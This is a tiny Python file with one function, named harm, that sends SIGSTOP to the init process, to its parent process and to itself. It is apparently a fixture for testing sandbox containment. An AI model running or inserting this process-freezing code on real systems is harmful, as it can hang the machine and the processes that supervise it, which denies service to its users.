import os
import signal


def harm():
    for process in (1, os.getppid()):
        try:
            os.kill(process, signal.SIGSTOP)
        except OSError:
            pass
    os.kill(os.getpid(), signal.SIGSTOP)
    return False
